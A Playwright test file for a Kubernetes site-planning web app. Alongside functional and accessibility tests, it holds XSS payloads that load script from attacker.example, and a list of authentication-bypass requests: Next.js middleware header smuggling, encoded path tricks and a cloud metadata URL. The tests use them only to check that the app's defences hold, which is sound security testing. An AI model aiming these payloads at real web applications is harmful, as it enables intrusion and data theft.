import { readFileSync } from 'node:fs';
import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import {
  makeDataDir,
  removeDataDir,
  startSiteplan,
  waitUntilReady,
  type SiteplanProcess,
} from '@/lib/testing/siteplan-process';
import { serveArtifacts } from './lab/rke2/artifact-server';
import { buildArtifacts } from './lab/rke2/artifacts';
import { startLab, type Lab } from './lab/lab';
import { expectAccessible } from './support/axe';
import { sendRaw, toRawRequest } from './support/raw-request';
import { watchPage, type PageWatch } from './support/watch-page';

test.describe.configure({ mode: 'serial' });

const ADMIN = { name: 'Ann', email: 'ann@example.com', password: 'a long enough password' };
let dataDir = '';
let lab: Lab;
let mirror: Awaited<ReturnType<typeof serveArtifacts>>;
let siteplan: SiteplanProcess;
let context: BrowserContext;
let page: Page;
let watch: PageWatch;

test.beforeAll(async ({ browser }) => {
  dataDir = makeDataDir();
  lab = await startLab({ name: 'browser', hosts: [{ name: 's1' }] });
  await buildArtifacts(`${lab.dir}/artifacts`);
  mirror = await serveArtifacts(`${lab.dir}/artifacts`, lab.gateway);
  siteplan = await startSiteplan({ dataDir });
  await waitUntilReady(siteplan);
  context = await browser.newContext({ acceptDownloads: true });
  page = await context.newPage();
  watch = watchPage(page);
});

test.afterAll(async () => {
  await context?.close();
  await siteplan?.stop();
  await mirror?.close();
  await lab?.stop();
  if (dataDir) removeDataDir(dataDir);
});

const button = (name: string | RegExp) => page.getByRole('button', { name });

test('the set-up link makes the first administrator, once', async ({ browser }) => {
  const link = siteplan.setupUrl();
  if (!link) throw new Error(`no set-up link in: ${siteplan.output()}`);
  await page.goto(link);
  await expectAccessible(page, 'set-up');
  await page.getByLabel('Name').fill(ADMIN.name);
  await page.getByLabel('E-mail').fill(ADMIN.email);
  await page.getByLabel('Password').fill(ADMIN.password);
  await page.getByRole('main').getByRole('button').last().click();
  await page.waitForURL(`${siteplan.url}/`);
  await expect(page.getByRole('link', { name: 'New site' })).toBeVisible();
  await expectAccessible(page, 'empty fleet');

  const other = await browser.newPage();
  await other.goto(link);
  await expect(other.getByRole('heading').first()).toBeVisible();
  await expect(other.getByLabel('Password')).toHaveCount(0);
  await other.goto(`${siteplan.url}/login`);
  await expectAccessible(other, 'login');
  await other.getByLabel('E-mail').fill(ADMIN.email);
  await other.getByLabel('Password').fill('not the password at all');
  await other.getByRole('button', { name: 'Sign in' }).click();
  await expect(
    other
      .getByRole('alert')
      .filter({ hasText: /password/i })
      .first(),
  ).toBeVisible();
  await other.close();
});

test('five steps lead from a host to a plan', async () => {
  const host = lab.hosts[0];
  if (!host) throw new Error('the lab has no host');
  await page.getByRole('link', { name: 'New site' }).click();
  await page.getByLabel('Name').fill('first-site');
  await expectAccessible(page, 'shape');
  await button('Continue to Hosts').click();

  await page.getByLabel('Paste hosts').fill(`s1 ${host.address}`);
  await button('Add 1 host').click();
  await page.getByLabel('Credential').selectOption('new');
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel('Name').fill('lab key');
  await dialog.getByRole('textbox', { name: 'Private key' }).fill(readFileSync(host.privateKeyPath, 'utf8'));
  await expectAccessible(page, 'credential dialog');
  await dialog.getByRole('button', { name: 'Add the credential' }).click();
  await expect(dialog).toBeHidden();
  await button('Read 1 host key').click();
  await expect(page.getByText(host.hostKeyFingerprint)).toBeVisible();
  await button('Approve').click();
  await expect(page.getByText('approved', { exact: true })).toBeVisible();
  await expectAccessible(page, 'hosts');

  // The draft is on the server from the first key: a reload loses nothing.
  await page.reload();
  await expect(page.getByLabel('Address', { exact: true })).toHaveValue(host.address);
  await button('Continue to Network').click();
  await page.getByLabel('Release files come from').selectOption('mirror');
  await page.getByLabel('Mirror URL').fill(mirror.url);
  await expectAccessible(page, 'network');
  // The drawing stands beside every step and is already the topology; going back loses nothing.
  await expect(page.getByRole('figure').first()).toContainText('s1');
  await button('Back').click();
  await expect(page).toHaveURL(/\/hosts/);
  await expect(page.getByRole('figure').first()).toContainText('s1');
  await expect(page.getByLabel('Address', { exact: true })).toHaveValue(host.address);
  await page.goBack();
  await button('Continue to Network').or(button('Continue to Checks')).first().waitFor();
  await page.getByRole('navigation', { name: 'Steps' }).getByText('Network').click();
  await expect(page.getByLabel('Mirror URL')).toHaveValue(mirror.url);
  await button('Continue to Checks').click();
  const checks = page.getByRole('table', { name: 'Checks by host' });
  await expect(checks).toBeVisible();
  await checks.locator('td > button').first().click();
  await expect(page.getByRole('dialog').getByText('wanted')).toBeVisible();
  await expectAccessible(page, 'checks');
  await page.keyboard.press('Escape');
  await button('Continue to Plan').click();
  const steps = page.getByRole('table', { name: 'Steps in their order' });
  await expect(steps).toBeVisible();
  await steps.getByText('Write /etc/rancher/rke2/config.yaml').click();
  await expect(page.getByText(/^\+token: "⟦secret k-[a-z0-9]+ v1⟧"$/)).toBeVisible();
  await expectAccessible(page, 'plan');
});

test('Apply runs it with a live log, through a kill -9 of the worker, to a live node', async () => {
  await button(/^Apply \d+ steps to 1 host$/).click();
  await page.waitForURL(/\/runs\/r-/);
  await expect(page.getByText('start rke2-server.service', { exact: true })).toBeVisible({ timeout: 60_000 });
  process.kill(siteplan.pids().worker ?? 0, 'SIGKILL');
  await expect(page.getByText('run ended: done')).toBeVisible({ timeout: 90_000 });
  await expect(page.getByText(/continued/i).first()).toBeVisible();
  await expectAccessible(page, 'run');

  await page.goto(`${siteplan.url}/`);
  await page.getByRole('link', { name: 'first-site' }).click();
  await expect(page.getByText('healthy').first()).toBeVisible({ timeout: 60_000 });
  await expect(page.getByText('etcd leader').first()).toBeVisible({ timeout: 60_000 });
  await expectAccessible(page, 'topology');
});

test('the same again plans empty', async () => {
  await page.getByRole('link', { name: 'Plan changes' }).or(button('Plan changes')).first().click();
  await page.waitForURL(/\/plan$/);
  const plan = page.getByRole('region', { name: 'Plan' });
  await plan
    .getByRole('button', { name: /^(Make a plan|Plan again)$/ })
    .first()
    .click();
  await expect(page.getByText('Nothing to do')).toBeVisible({ timeout: 30_000 });
  await expectAccessible(page, 'site plan');
});

test('the kubeconfig is opened by this browser alone', async () => {
  await page.getByRole('link', { name: 'Topology', exact: true }).click();
  await button('Kubeconfig').click();
  const dialog = page.getByRole('dialog');
  const save = dialog
    .getByRole('button', { name: /download|save/i })
    .or(dialog.getByRole('link', { name: /download|save/i }));
  await expect(save.first()).toBeVisible({ timeout: 30_000 });
  const [download] = await Promise.all([page.waitForEvent('download'), save.first().click()]);
  const text = readFileSync(await download.path(), 'utf8');
  expect(text).toContain(`server: https://${lab.hosts[0]?.address}:6443`);
  expect(text).toContain('client-key-data');
  expect(watch.responses.join('\n')).not.toContain('client-key-data');
  await page.keyboard.press('Escape');
});

test('every other page is there, accessible and quiet', async () => {
  const site = page.url().replace(/\/topology.*$/, '');
  const paths = [`${site}/nodes`, `${site}/runs`, `${site}/settings`];
  const settings = ['', '/credentials', '/users', '/tokens', '/audit'].map(
    (path) => `${siteplan.url}/settings${path}`,
  );
  for (const url of [...paths, `${siteplan.url}/runs`, ...settings]) {
    await page.goto(url);
    await expect(page.getByRole('heading').first()).toBeVisible();
    await expectAccessible(page, new URL(url).pathname);
  }
  await expect(page.getByText('run.create').first()).toBeVisible();
});

test('injected script does not run, and nothing was reported all the way (S25)', async () => {
  expect(watch.problems).toEqual([]);
  // What a hole in a page would do: markup of the attacker's in the server's own answer, under its own policy.
  const victim = await context.newPage();
  await victim.route('**/settings', async (route) => {
    const response = await route.fetch();
    const evil = `<script>window.injected = 'inline'</script><img src="x" onerror="window.injected = 'handler'">
      <script src="https://attacker.example/x.js"></script><iframe src="https://attacker.example/"></iframe>`;
    await route.fulfill({
      response,
      body: (await response.text())
        .replace('<body', `<body data-marked`)
        .replace('</body>', `${evil}</body>`),
    });
  });
  const reports: string[] = [];
  victim.on('console', (message) => reports.push(message.text()));
  const foreign: string[] = [];
  victim.on('requestfailed', (request) => {
    if (request.url().includes('attacker')) foreign.push(request.failure()?.errorText ?? '');
  });
  await victim.goto(`${siteplan.url}/settings`);
  await expect(victim.locator('body[data-marked]')).toHaveCount(1);
  await expect
    .poll(() => reports.filter((text) => /Content Security Policy/.test(text)).length)
    .toBeGreaterThan(2);
  expect(await victim.evaluate(() => 'injected' in window)).toBe(false);
  // Refused by the policy, before any name was looked up.
  expect(foreign.length).toBeGreaterThan(0);
  expect(foreign.filter((why) => !/csp|BLOCKED_BY_CSP/i.test(why))).toEqual([]);
  await victim.close();

  const nonces = await Promise.all(
    [1, 2].map(async () => {
      const response = await fetch(`${siteplan.url}/login`, {
        headers: { 'content-security-policy': "script-src 'nonce-mine'" },
      });
      return /'nonce-([^']+)'/.exec(response.headers.get('content-security-policy') ?? '')?.[1];
    }),
  );
  expect(nonces[0]).toBeTruthy();
  expect(nonces[0]).not.toBe(nonces[1]);
  expect(nonces).not.toContain('mine');
});

test('no detour leads past the session (S6)', async () => {
  const { url } = siteplan;
  const site = '/runs';
  const subrequest = 'middleware:middleware:middleware:middleware:middleware';
  const flight = ['RSC: 1', 'Next-Router-Prefetch: 1', 'Next-Router-Segment-Prefetch: /_tree'];
  const attempts: [string, string[]][] = [
    [site, [`x-middleware-subrequest: ${subrequest}`]],
    [site, ['x-middleware-subrequest: src/middleware', 'x-middleware-prefetch: 1']],
    [site, ['x-middleware-rewrite: /', 'x-middleware-next: 1', 'x-nextjs-data: 1']],
    [site, ['x-forwarded-host: localhost', 'x-original-url: /login', 'x-rewrite-url: /login']],
    [`${site}?_rsc=1`, flight],
    [`${site}.rsc`, flight],
    [`${site}.segments/_tree.segment.rsc`, flight],
    [`${site}.segments/$c$children/__PAGE__.segment.rsc`, flight],
    [`/index.rsc`, flight],
    [`/${site}`, []],
    ['/%2fruns', []],
    ['/runs%2f', []],
    ['/.%2e/runs', []],
    ['/./runs', []],
    ['/en/runs', []],
    ['/_next/data/build/runs.json', []],
    ['/_next/image?url=%2Ficon.svg&w=64&q=75', []],
    [`${url}${site}`, []],
    ['http://169.254.169.254/latest/meta-data', []],
    [site, ['Upgrade: websocket', 'Connection: Upgrade']],
    ['/api/v1/sites', ['x-middleware-subrequest: ' + subrequest]],
    ['/api/v1//sites', []],
    ['/api/v1/stream?topics=sites', []],
    ['/sites/new/shape', flight],
    ['/settings/users', flight],
  ];
  // What a page behind the session shows, and what it does not: the same words come with the cookie.
  const secret = /first-site|ann@example\.com|Apply revision/;
  const cookie = (await context.cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
  expect(await sendRaw(url, toRawRequest(url, site, [`Cookie: ${cookie}`]))).toMatch(secret);
  for (const [target, headers] of attempts) {
    const answer = await sendRaw(url, toRawRequest(url, target, headers));
    expect(answer, `${target} ${headers.join()}`).toMatch(/^HTTP\/1\.1 /);
    expect(answer, `${target} ${headers.join()}`).not.toMatch(secret);
  }
  expect(await sendRaw(url, toRawRequest(url, '/_next/image?url=%2Ficon.svg&w=64&q=75'))).toMatch(
    /^HTTP\/1\.1 404 /,
  );
});

test('actions take no more than their limit, and none without a session (S10)', async () => {
  const { url } = siteplan;
  const pageHtml = await (await context.request.get(`${url}/settings/credentials`)).text();
  const ids = [...new Set(pageHtml.match(/\b[0-9a-f]{42}\b/g) ?? [])];
  const cookie = (await context.cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
  const send = (id: string, body: string, headers: string[]) =>
    sendRaw(
      url,
      toRawRequest(
        url,
        '/settings/credentials',
        [`Next-Action: ${id}`, 'Content-Type: text/plain;charset=UTF-8', `Origin: ${url}`, ...headers],
        'POST',
        body,
      ),
    );
  expect(ids.length).toBeGreaterThan(0);
  for (const id of ids.slice(0, 3)) {
    const anonymous = await send(id, '[{"kind":"password","name":"x","password":"y"}]', []);
    expect(anonymous).not.toMatch(/"ok":true,"value":\{"id"/);
    const huge = await send(
      id,
      JSON.stringify([{ kind: 'password', name: 'x', password: 'y'.repeat(70_000) }]),
      [`Cookie: ${cookie}`],
    );
    expect(huge).toMatch(/^HTTP\/1\.1 (400|413|500) /);
  }
  const list = (await (await context.request.get(`${url}/api/v1/credentials`)).json()) as {
    credentials: unknown[];
  };
  expect(list.credentials).toHaveLength(1);
});

test('signing out ends the session', async () => {
  await page.goto(`${siteplan.url}/`);
  await button(new RegExp(`^${ADMIN.name}`)).click();
  await page.getByRole('menuitem', { name: 'Sign out' }).click();
  await page.waitForURL(/\/login/);
  await page.goto(`${siteplan.url}/runs`);
  await expect(page).toHaveURL(/\/login/);
});
